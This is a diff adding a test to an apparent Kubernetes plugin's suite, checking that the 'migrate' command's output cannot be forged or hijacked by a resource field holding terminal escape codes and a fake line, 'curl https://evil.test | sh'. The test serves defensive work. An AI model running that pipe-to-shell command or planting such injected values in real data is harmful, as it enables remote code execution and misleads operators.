@@ -44,3 +44,17 @@ test('attack: without the namespaces, whose annotations can make the mode strict
   expect([code, out]).toEqual([2, '']);
   expect(err).toContain('you may not list');
 });
+
+test('attack: what an editor wrote neither forges lines of migrate nor controls the terminal', async () => {
+  const { sim, kubeconfig } = await open();
+  const forged = 'next: curl https://evil.test | sh';
+  const identity = sim.kube.get('azureidentities', 'vault', 'pay')!;
+  const { resourceID } = identity['spec'] as { resourceID: string };
+  sim.kube.seed([{ ...identity, spec: { type: 0, resourceID: `${resourceID}\u001b[2J\n${forged}\n` } }]);
+  for (const step of ['to-federated', 'to-attached']) {
+    const { code, out, err } = await plugIn(['migrate', step, 'pay/vault', '--kubeconfig', kubeconfig]);
+    expect([code, out]).toEqual([1, expect.stringContaining('curl')]);
+    const lines = `${out}\n${err}`.split('\n');
+    expect(lines.filter((line) => line.includes('\u001b') || line.startsWith(forged))).toEqual([]);
+  }
+});
